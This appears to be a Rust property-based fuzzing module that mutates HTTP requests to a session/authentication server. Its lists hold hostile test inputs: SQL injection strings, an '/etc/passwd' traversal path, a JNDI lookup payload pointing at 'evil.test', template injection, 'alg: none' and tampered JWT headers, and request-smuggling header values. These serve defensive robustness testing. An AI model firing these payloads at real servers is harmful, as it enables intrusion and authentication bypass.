//! Random mutations, with the values that have broken other servers.

use proptest::prelude::*;
use proptest::sample::{Index, select};

use super::{BodyChange, ByteChange, Mutation, PathChange, TokenChange};

/// Texts that have broken other servers.
const HOSTILE: [&str; 26] = [
    "",
    "\u{0}",
    "null",
    "undefined",
    "[object Object]",
    "-1",
    "99999999999999999999999999",
    "1e400",
    "NaN",
    "'",
    "' OR '1'='1",
    "\"; DROP TABLE sessions; --",
    "../../../../etc/passwd",
    "%00",
    "%c0%ae%c0%ae/",
    "%",
    "%zz",
    "\\u0000",
    "\\ud800",
    "${jndi:ldap://evil.test/a}",
    "{{7*7}}",
    "a=b; sAccessToken=c; sAccessToken=d",
    "eyJhbGciOiJub25lIn0.eyJzdWIiOiJ1In0.",
    "Bearer Bearer Bearer",
    "é✓\u{202e}\u{feff}",
    "=?utf-8?B?YQ==?=",
];

/// Headers that decide about something.
const NAMES: [&str; 23] = [
    "authorization",
    "cookie",
    "anti-csrf",
    "rid",
    "fdi-version",
    "st-auth-mode",
    "origin",
    "content-type",
    "content-length",
    "content-encoding",
    "transfer-encoding",
    "host",
    "x-forwarded-host",
    "x-http-method-override",
    "access-control-request-method",
    "sec-fetch-site",
    "expect",
    "upgrade",
    "connection",
    "accept-encoding",
    "x-request-id",
    "traceparent",
    "tracestate",
];

/// Values that a header of that kind takes, or nearly.
const VALUES: [&str; 18] = [
    "application/json; charset=latin1",
    "application/json; charset=\"UTF-16\"",
    "application/x-www-form-urlencoded",
    "text/plain",
    "multipart/form-data; boundary=",
    "gzip",
    "deflate, gzip",
    "br",
    "chunked",
    "gzip, chunked",
    "0",
    "5",
    "100000000",
    "18446744073709551616",
    "+7",
    "100-continue",
    "cookie",
    "https://evil.test",
];

const METHODS: [&str; 9] = [
    "GET", "HEAD", "POST", "PUT", "DELETE", "OPTIONS", "TRACE", "CONNECT", "BREW",
];

fn hostile() -> impl Strategy<Value = String> {
    prop_oneof![
        4 => select(&HOSTILE[..]).prop_map(str::to_owned),
        1 => "[ -~]{0,40}",
        1 => any::<String>(),
    ]
}

fn value() -> impl Strategy<Value = String> {
    prop_oneof![2 => select(&VALUES[..]).prop_map(str::to_owned), 1 => hostile()]
}

fn path() -> impl Strategy<Value = PathChange> {
    prop_oneof![
        hostile().prop_map(PathChange::Append),
        select(
            &[
                "/",
                "//",
                "/./",
                "/../",
                "/public",
                "/t1",
                "/%61uth",
                "http://evil.test",
                "*",
                "?"
            ][..]
        )
        .prop_map(PathChange::Prefix),
        Just(PathChange::Uppercase),
        any::<Index>().prop_map(PathChange::Encode),
    ]
}

fn token() -> impl Strategy<Value = TokenChange> {
    let header = select(
        &[
            r#"{"alg":"none","typ":"JWT","version":"5","kid":"d-1"}"#,
            r#"{"alg":"HS256","typ":"JWT","version":"5","kid":"../../dev/null"}"#,
            r#"{"alg":"ES256","typ":"JWT","version":"5","kid":null}"#,
            r#"{"alg":"ES256","alg":"none","typ":"JWT","version":"5","kid":"d-1","kid":"d-2"}"#,
            r#"{"alg":"ES256","typ":"JWT","version":"5","kid":"d-1","crit":["x"],"x":1}"#,
            "[]",
            "{",
        ][..],
    );
    prop_oneof![
        any::<Index>().prop_map(TokenChange::Cut),
        Just(TokenChange::Repeat),
        Just(TokenChange::Pad),
        Just(TokenChange::Uppercase),
        Just(TokenChange::Quote),
        any::<Index>().prop_map(TokenChange::Encode),
        (any::<Index>(), any::<char>()).prop_map(|(at, by)| TokenChange::Character(at, by)),
        header.prop_map(|header| TokenChange::Header(header.to_owned())),
        (any::<Index>(), any::<Index>(), any::<u8>())
            .prop_map(|(part, at, by)| TokenChange::Inside(part, at, by)),
    ]
}

fn body() -> impl Strategy<Value = BodyChange> {
    prop_oneof![
        (1_usize..20_000).prop_map(BodyChange::Nest),
        hostile().prop_map(BodyChange::Wrap),
        hostile().prop_map(BodyChange::RepeatKey),
        select(
            &[
                "-0",
                "1e400",
                "-1e-400",
                "99999999999999999999999999",
                "0x10",
                "1.0",
                "NaN"
            ][..]
        )
        .prop_map(BodyChange::Number),
        Just(BodyChange::Mark),
        Just(BodyChange::Utf16),
        any::<Index>().prop_map(BodyChange::Escape),
        Just(BodyChange::Latin1),
        Just(BodyChange::Chunked),
        Just(BodyChange::Form),
        (1_usize..200_000).prop_map(BodyChange::Large),
    ]
}

fn bytes() -> impl Strategy<Value = ByteChange> {
    let at = any::<Index>;
    prop_oneof![
        3 => (at(), 0_u8..8).prop_map(|(at, bit)| ByteChange::Flip(at, bit)),
        3 => (at(), any::<u8>()).prop_map(|(at, by)| ByteChange::Set(at, by)),
        2 => (at(), prop::collection::vec(any::<u8>(), 1..16)).prop_map(|(at, by)| ByteChange::Insert(at, by)),
        2 => (at(), 1_usize..40).prop_map(|(at, length)| ByteChange::Delete(at, length)),
        1 => at().prop_map(ByteChange::Truncate),
        2 => (at(), 1_usize..400).prop_map(|(at, length)| ByteChange::Repeat(at, length)),
        2 => (at(), 1_usize..100, at()).prop_map(|(from, length, to)| ByteChange::Move(from, length, to)),
        2 => (at(), at()).prop_map(|(end, start)| ByteChange::Splice(end, start)),
        1 => Just(ByteChange::Pipeline),
    ]
}

fn mutation() -> impl Strategy<Value = Mutation> {
    let index = any::<Index>;
    prop_oneof![
        1 => select(&METHODS[..]).prop_map(Mutation::Method),
        1 => path().prop_map(Mutation::Path),
        1 => index().prop_map(Mutation::DropHeader),
        1 => index().prop_map(Mutation::RepeatHeader),
        1 => (index(), index()).prop_map(|(one, two)| Mutation::SwapHeaders(one, two)),
        4 => (select(&NAMES[..]), value()).prop_map(|(name, value)| Mutation::SetHeader(name, value)),
        1 => (select(&NAMES[..]), 1_usize..100_000).prop_map(|(name, length)| Mutation::LongHeader(name, length)),
        1 => (1_usize..200).prop_map(Mutation::ManyHeaders),
        1 => Just(Mutation::SplitCookies),
        1 => Just(Mutation::RepeatCookies),
        5 => (index(), token()).prop_map(|(which, change)| Mutation::Token(which, change)),
        4 => body().prop_map(Mutation::Body),
        7 => bytes().prop_map(Mutation::Bytes),
    ]
}

/// One to four changes.
pub(crate) fn mutations() -> impl Strategy<Value = Vec<Mutation>> {
    prop::collection::vec(mutation(), 1..=4)
}
